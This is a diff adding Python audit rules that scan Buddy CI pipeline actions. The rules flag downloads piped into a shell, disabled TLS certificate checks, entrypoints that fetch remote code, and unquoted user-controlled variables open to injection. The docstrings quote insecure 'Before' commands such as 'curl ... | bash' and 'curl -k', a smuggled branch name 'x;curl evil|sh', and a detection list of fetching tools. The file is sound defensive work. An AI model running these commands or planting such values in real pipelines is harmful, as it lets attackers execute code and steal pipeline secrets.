@@ -1,0 +1,213 @@
+"""What the commands of Buddy actions do."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from airflow_provider.audit.analysis.shell.downloads import Downloads, Run, only_asks
+from airflow_provider.audit.analysis.shell.script import Command
+from airflow_provider.audit.analysis.shell.unchecked_tls import by_assignment, by_command, by_variable
+from airflow_provider.audit.facts.facts import ActionFacts
+from airflow_provider.audit.rules.outcome import Outcome, fail, not_applicable, not_available
+from airflow_provider.audit.rules.rule import rule
+from airflow_provider.audit.settings.levels import Confidence, Persona, Severity
+from airflow_provider.audit.settings.model import AuditSettings
+
+FIELDS = ("execute_commands", "setup_commands", "inline_commands", "commands", "entrypoint")
+
+
+@rule(
+    "BDY010",
+    "download-into-shell",
+    "Download piped into a shell",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    reads=(*FIELDS, "shell"),
+    needs=("EXECUTION_INFO",),
+)
+def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A script is fetched and run at once, by whatever way: a pipe, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, ``iex (irm ...)``. Of
+    severity and confidence medium: it is saved first, and run without a look at a checksum or signature.
+
+    Why:
+    Whoever has that server, or its name, runs commands in the pipeline, with all its secrets; nobody can tell afterwards what ran.
+
+    Mend:
+    Keep the script in the repository, or fetch a fixed version and compare its checksum before it runs.
+
+    Before:
+    {"execute_commands": ["curl -sSL https://get.example.com/tool.sh | bash"]}
+
+    After:
+    {"execute_commands": ["curl -sSO https://get.example.com/1.4.2/tool.sh", "echo \"$SUM  tool.sh\" | sha256sum -c -", "bash tool.sh"]}
+    """
+    if not action.gives(*FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    if any(script.cut for script in action.scripts()):
+        yield not_available("the commands are too long to be looked at whole")
+    downloads = Downloads()
+    for commands in action.scripts():
+        found: dict[int, Run] = {}
+        for before, script in commands.parsed:
+            for run in downloads.runs(script):
+                known = found.get(before + run.line)
+                if known is None or (run.sure and not known.sure):
+                    found[before + run.line] = run
+        for line, run in found.items():
+            yield fail(
+                commands.path_at(line),
+                run.shown,
+                "A download is run without a look at its checksum." if run.saved else "A download is run unseen.",
+                severity=Severity.MEDIUM if run.saved else None,
+                confidence=None if run.sure else Confidence.MEDIUM,
+            )
+
+
+@rule(
+    "BDY011",
+    "tls-checks-off",
+    "TLS checks switched off",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    reads=(*FIELDS, "variables"),
+    needs=("EXECUTION_INFO",),
+)
+def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A command, or a variable that programs heed, switches off the check of certificates: ``curl -k``, ``git -c http.sslVerify=false``,
+    ``NODE_TLS_REJECT_UNAUTHORIZED=0``. Of confidence low where only the machine itself is spoken to.
+
+    Why:
+    Whoever is on the way can answer in place of the server: with other code, or just to read the password.
+
+    Mend:
+    Trust the authority that signed the certificate: ``--cacert``, ``GIT_SSL_CAINFO``, ``NODE_EXTRA_CA_CERTS``, ``PIP_CERT``.
+
+    Before:
+    {"execute_commands": ["curl -k https://registry.example.com/v2/"]}
+
+    After:
+    {"execute_commands": ["curl --cacert ca.pem https://registry.example.com/v2/"]}
+    """
+    if not action.gives(*FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    if any(script.cut for script in action.scripts()):
+        yield not_available("the commands are too long to be looked at whole")
+    seen: set[tuple[str, str]] = set()
+    for commands in action.scripts():
+        found = [(path, what, sure) for path, command in commands.every_command() for what, sure in by_command(command)]
+        found += [(path, item.name, sure) for path, item in commands.every_assignment() if (sure := by_assignment(item))]
+        for path, what, sure in found:
+            if (path, what) not in seen:
+                seen.add((path, what))
+                yield fail(path, what, f"Certificates are not checked: {what}.", confidence=sure)
+    for number, variable in enumerate(action.variables):
+        if variable.value is not None and (confidence := by_variable(variable.key, str(variable.value))):
+            yield fail(f"variables[{number}].value", variable.key, f"Certificates are not checked: {variable.key}.", confidence=confidence)
+
+
+@rule(
+    "BDY021",
+    "entrypoint-fetches",
+    "Entrypoint tampered with",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.LOW,
+    confidence=Confidence.MEDIUM,
+    reads=("entrypoint",),
+    needs=("EXECUTION_INFO",),
+)
+def entrypoint_fetches(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    The entrypoint that takes the place of the image's own fetches something. Whether an image needs the entrypoint that is reset is not
+    known here, so ``reset_entrypoint`` is not judged.
+
+    Why:
+    What starts the container is the last place where anybody looks for code from elsewhere.
+
+    Mend:
+    Build it into the image, or fetch it by a command of the action, where it is seen.
+
+    Before:
+    {"entrypoint": "sh -c 'curl -so /start.sh https://example.com/start.sh; sh /start.sh'"}
+
+    After:
+    {"entrypoint": "/usr/local/bin/start.sh"}
+    """
+    if not action.gives("entrypoint"):
+        yield not_available("entrypoint is not visible")
+        return
+    for commands in action.scripts():
+        if commands.path == "entrypoint":
+            name = next((command.name for _, command in commands.every_command() if _fetches(command)), None)
+            if name:
+                yield fail("entrypoint", name, f"The entrypoint fetches something by {name}.")
+
+
+def _fetches(command: Command) -> bool:
+    if command.name == "git":
+        return any(text in ("clone", "pull", "fetch") for text in command.arguments)
+    fetching = ("curl", "wget", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile")
+    return command.name in fetching and not only_asks(command)
+
+
+@rule(
+    "BDY026",
+    "injection-from-variables",
+    "Injection from user-controlled variables",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.LOW,
+    persona=Persona.STRICT,
+    reads=(*FIELDS, "variables"),
+    needs=("EXECUTION_INFO",),
+)
+def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A variable that whoever pushes or starts the pipeline fills, such as the branch or the commit message, is used without quotes, or within
+    a script that is given as text.
+
+    Why:
+    A branch may be named ``x;curl evil|sh``, or like an option. Within ``eval`` and ``sh -c`` not even quotes help.
+
+    Mend:
+    Put it in double quotes, behind ``--`` where it could be an option, and hand it to scripts as an argument.
+
+    Before:
+    {"execute_commands": ["git checkout $BUDDY_EXECUTION_BRANCH"]}
+
+    After:
+    {"execute_commands": ["git checkout \"$BUDDY_EXECUTION_BRANCH\" --"]}
+    """
+    if not action.gives(*FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    scripts = [script for script in action.scripts() if (script.shell or "").upper() != "POWERSHELL"]
+    if not scripts:
+        yield not_applicable("there are no commands of a Unix shell")
+    passed = {variable.key for variable in action.variables if variable.settable}
+    for script in scripts:
+        seen: set[tuple[str, str]] = set()
+        for path, command in script.every_command():
+            if command.name in ("echo", "printf", "[[", "[", "export", "read", "test"):
+                continue
+            for word in command.words:
+                for expansion in word.expansions:
+                    name = expansion.name
+                    if not expansion.quoted and (_OF_A_PERSON.fullmatch(name) or name in passed) and (path, name) not in seen:
+                        seen.add((path, name))
+                        yield fail(path, f"{command.name} ${name}", f"{name} is used without quotes by {command.name}.")
+
+
+_OF_A_PERSON = re.compile(
+    r"BUDDY_(?:EXECUTION|RUN|PULL_REQUEST|TRIGGERING?|INVOKER|COMMIT)\w*?_(?:BRANCH|TAG|REFSPEC|REF|MESSAGE|SUBJECT|BODY|COMMENT|TITLE|NAME|EMAIL|DESCRIPTION)"
+)
